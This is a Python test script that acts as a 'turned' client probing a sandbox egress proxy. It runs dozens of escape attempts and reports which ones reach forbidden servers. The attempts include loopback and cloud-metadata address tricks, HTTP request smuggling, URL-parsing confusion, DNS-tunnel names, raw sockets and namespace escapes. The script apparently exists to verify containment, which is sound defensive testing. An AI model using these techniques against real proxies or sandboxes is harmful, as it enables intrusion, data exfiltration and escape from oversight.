"""A client that has been turned: it tries every way it knows to reach what was not allowed.

Told where things are by a JSON object in argv[1]. Prints one line a try: its name, and REACHED if an answer of a forbidden
server came back. What the servers saw is the truth; this only says which try it was.
"""

import array, ctypes, json, os, socket, ssl, struct, sys, threading, time

W = json.loads(sys.argv[1])
DOOR = ("127.0.0.1", W["door"])
P = W["inside"]
WAIT = 2
tries = []


def attempt(function):
    tries.append((function.__name__, function))
    return function


def each(name, values):
    def add(function):
        for value in values:
            tries.append((f"{name} {value}", lambda value=value: function(value)))
        return function
    return add


def drain(s):
    s.settimeout(WAIT)
    out = b""
    try:
        while chunk := s.recv(65536):
            out += chunk
            if b"OUTSIDE" in out:
                break
    except OSError:
        pass
    return out


def get(s, host="x", path="/"):
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    return drain(s)


def door(data, wait=True):
    s = socket.create_connection(DOOR, WAIT)
    s.sendall(data if isinstance(data, bytes) else data.encode())
    return drain(s) if wait else s


def tunnel(at):
    s = socket.create_connection(DOOR, WAIT)
    s.settimeout(WAIT)
    s.sendall(f"CONNECT {at} HTTP/1.1\r\nHost: {at}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        byte = s.recv(1)
        if not byte:
            break
        head += byte
    if b" 200 " not in head.split(b"\r\n")[0]:
        raise OSError("refused")
    return s


def ask(name, kind=1, server=("127.0.0.1", 53)):
    question = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(WAIT)
    s.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + question, server)
    return s.recv(1500)


SPELLINGS = [
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001",
    "0x7f.0x0.0x0.0x1", "127.0.0.1.", "0", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[fe80::1%25lo]", "[2002:7f00:1::]", "%31%32%37.0.0.1", "localhost",
    "LOCALHOST.", "inside.allowed.test",
]
METADATA = ["169.254.169.254", "0xa9fea9fe", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]"]


@each("connect", SPELLINGS)
def _(host):
    return get(tunnel(f"{host}:{P}"), f"{host}:{P}")


@each("absolute", SPELLINGS)
def _(host):
    return door(f"GET http://{host}:{P}/ HTTP/1.1\r\nHost: {host}:{P}\r\n\r\n")


@each("metadata", METADATA)
def _(host):
    return door(f"GET http://{host}/latest/ HTTP/1.1\r\nHost: {host}\r\n\r\n")


@each("straight", ["127.0.0.1", "0.0.0.0", "localhost", "127.0.0.2", "inside.allowed.test"])
def _(host):
    return get(socket.create_connection((host, W["other"] if host == "127.0.0.2" else P), WAIT))


@attempt
def straight_by_ipv6():
    return get(socket.create_connection(("::1", W["six"]), WAIT))


@attempt
def straight_by_mapped_ipv6():
    s = socket.socket(socket.AF_INET6)
    s.settimeout(WAIT)
    s.connect(("::ffff:127.0.0.1", P))
    return get(s)


@attempt
def fast_open():
    s = socket.socket()
    s.sendto(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", 0x20000000, ("127.0.0.1", P))
    return drain(s)


@attempt
def multipath_tcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.settimeout(WAIT)
    s.connect(("127.0.0.1", P))
    return get(s)


@attempt
def another_port_of_an_allowed_host():
    return get(tunnel(f"allowed.test:{W['other']}"), "allowed.test")


@attempt
def synthetic_address_of_another_port():
    address = socket.inet_ntoa(ask("allowed.test")[-4:])
    return get(socket.create_connection((address, W["other"]), WAIT))


@each("unused synthetic address", ["198.18.0.1", "198.18.255.255", "198.19.255.254"])
def _(address):
    return get(socket.create_connection((address, P), WAIT))


def udp(host, port, how):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    how(s, (host, port))
    return s.recv(100)


@each("udp", ["127.0.0.1", "127.0.0.2", "::1", "192.0.2.1"])
def _(host):
    return udp(host, W["udp6"] if host == "::1" else W["udp"], lambda s, a: s.sendto(b"out", a))


@attempt
def udp_connected():
    return udp("127.0.0.1", W["udp"], lambda s, a: (s.connect(a), s.send(b"out")))


@attempt
def udp_sendmsg():
    return udp("127.0.0.1", W["udp"], lambda s, a: s.sendmsg([b"out"], [], 0, a))


@attempt
def udp_lite():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    s.settimeout(1)
    s.sendto(b"out", ("127.0.0.1", W["udp"]))
    return s.recv(100)


@each("raw", [(socket.AF_INET, socket.SOCK_RAW, 17), (socket.AF_INET, socket.SOCK_RAW, 255), (17, socket.SOCK_RAW, 0)])
def _(kind):
    s = socket.socket(*kind)
    s.sendto(struct.pack(">HHHH", 9, W["udp"], 11, 0) + b"out", ("127.0.0.1", 0))
    return b""


@each("dns tunnel", ["c2VjcmV0.evil.test", "a" * 63 + "." + "b" * 63 + ".allowed.test", "evil.test", "metadata.google.internal"])
def _(name):
    for kind in (1, 16, 28, 255):
        answer = ask(name, kind)
        if answer[3] & 15 == 0 and answer[7]:
            return b"OUTSIDE: it resolves"
    return b""


@attempt
def many_names_under_a_wildcard():
    known = sum(ask(f"n{n}.allowed.test")[3] & 15 == 0 for n in range(400))
    return b"OUTSIDE: all of them" if known > 100 else b""


@attempt
def abstract_socket():
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + W["abstract"])
    return get(s)


@attempt
def socket_in_a_granted_directory():
    s = socket.socket(socket.AF_UNIX)
    s.connect(W["path"])
    return get(s)


@attempt
def datagram_pair_to_a_path():
    a, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    a.sendto(b"out", W["path"])
    return b""


@attempt
def the_door_through_itself():
    s = tunnel(f"127.0.0.1:{W['door']}")
    s.sendall(f"CONNECT 127.0.0.1:{P} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    return get(s)


@attempt
def a_proxy_header_names_another_host():
    return door(f"GET http://allowed.test:{W['allowed']}/ HTTP/1.1\r\nHost: 127.0.0.1:{P}\r\n\r\n")


@attempt
def a_tunnel_asks_for_another_host():
    return get(tunnel(f"allowed.test:{W['allowed']}"), f"inside.allowed.test:{P}")


@each("scheme", ["ftp", "https", "file", "gopher", "socks5"])
def _(scheme):
    return door(f"GET {scheme}://127.0.0.1:{P}/ HTTP/1.1\r\nHost: 127.0.0.1:{P}\r\n\r\n")


@each("request line", ["GET  http://127.0.0.1:{P}/ HTTP/1.1", "GET http://allowed.test:1@127.0.0.1:{P}/ HTTP/1.1",
                       "GET http://allowed.test#@127.0.0.1:{P}/ HTTP/1.1", "GET http://127.0.0.1:{P}\\@allowed.test/ HTTP/1.1",
                       "GET //127.0.0.1:{P}/ HTTP/1.1", "GET http://127.0.0.1:{P}/ HTTP/0.9", "CONNECT 127.0.0.1:{P}"])
def _(line):
    return door(line.replace("{P}", str(P)) + "\r\nHost: allowed.test\r\n\r\n")


@each("smuggled", ["Content-Length: 4\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
                   "Content-Length: 0\r\nContent-Length: 40", "Transfer-Encoding:\tchunked ", "Transfer-Encoding : chunked",
                   "X: y\r\n Transfer-Encoding: chunked", "Content-Length: +0", "X: \0"])
def _(header):
    at = f"allowed.test:{W['allowed']}"
    hidden = f"GET http://127.0.0.1:{P}/ HTTP/1.1\r\nHost: 127.0.0.1:{P}\r\n\r\n"
    return door(f"POST http://{at}/ HTTP/1.1\r\nHost: {at}\r\n{header}\r\n\r\n0\r\n\r\n{hidden}")


@attempt
def two_requests_on_one_connection():
    at = f"allowed.test:{W['allowed']}"
    one = f"GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\n\r\n"
    return door(one + f"GET http://127.0.0.1:{P}/ HTTP/1.1\r\nHost: 127.0.0.1:{P}\r\n\r\n")


@attempt
def follow_a_redirect_inside():
    at = f"allowed.test:{W['allowed']}"
    answer = door(f"GET http://{at}/redirect HTTP/1.1\r\nHost: {at}\r\n\r\n")
    target = answer.split(b"ocation: ")[1].split(b"\r\n")[0].decode()
    return door(f"GET {target} HTTP/1.1\r\nHost: {target.split('/')[2]}\r\n\r\n")


@each("server name", ["other.test", None, "127.0.0.1.nip.test"])
def _(name):
    context = ssl._create_unverified_context()
    s = context.wrap_socket(tunnel(f"allowed.test:{W['tls']}"), server_hostname=name)
    return get(s, "other.test")


@attempt
def a_relay_inside():
    relay = socket.create_server(("127.0.0.1", 0))
    def serve():
        client, _ = relay.accept()
        try:
            client.sendall(get(socket.create_connection(("127.0.0.1", P), WAIT)))
        except OSError:
            pass
        client.close()
    threading.Thread(target=serve, daemon=True).start()
    return get(socket.create_connection(relay.getsockname(), WAIT))


@attempt
def serve_the_outside():
    s = socket.create_server(("0.0.0.0", W["serve"]))
    s.settimeout(0.3)
    s.accept()
    return b"OUTSIDE came in"


@each("another network namespace", [0x40000000, 0x10000000, 0x50000000])
def _(flags):
    child = os.fork()
    if child == 0:
        os._exit(ctypes.CDLL(None).unshare(flags) & 1)
    return b"" if os.waitpid(child, 0)[1] else b"OUTSIDE: a namespace"


@attempt
def the_network_of_another_process():
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    if ctypes.CDLL(None, use_errno=True).setns(fd, 0):
        raise OSError("setns")
    return get(socket.create_connection(("127.0.0.1", P), WAIT))


@attempt
def inherited_descriptors():
    for fd in range(3, 256):
        try:
            s = socket.socket(fileno=os.dup(fd))
            if s.family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
                return b"OUTSIDE: an inherited socket"
        except OSError:
            pass
    return b""


@attempt
def a_hundred_thousand_headers():
    at = f"allowed.test:{W['allowed']}"
    s = socket.create_connection(DOOR, WAIT)
    s.settimeout(WAIT)
    try:
        s.sendall((f"GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\n" + "X-A: b\r\n" * 100_000 + "\r\n").encode())
    except OSError:
        pass
    answer = drain(s)
    return b"OUTSIDE: taken" if b" 200 " in answer else answer


@attempt
def slow_heads_do_not_shut_others_out():
    held = []
    for _ in range(300):
        s = socket.create_connection(DOOR, WAIT)
        s.sendall(b"GET http://allowed.test/ HT")
        held.append(s)
    at = f"allowed.test:{W['allowed']}"
    answer = door(f"GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\n\r\n")
    return b"" if b"ALLOWED" in answer else b"OUTSIDE: the door was shut by slow heads"


# The one thing that is allowed comes last, so that it also shows that the door lives.
reached = 0
for name, function in tries:
    try:
        result = function() or b""
    except Exception as error:
        result = b""
    print(name, "REACHED" if b"OUTSIDE" in result else "-", flush=True)
at = f"allowed.test:{W['allowed']}"
print("allowed", "REACHED" if b"ALLOWED" in door(f"GET http://{at}/ HTTP/1.1\r\nHost: {at}\r\n\r\n") else "-")
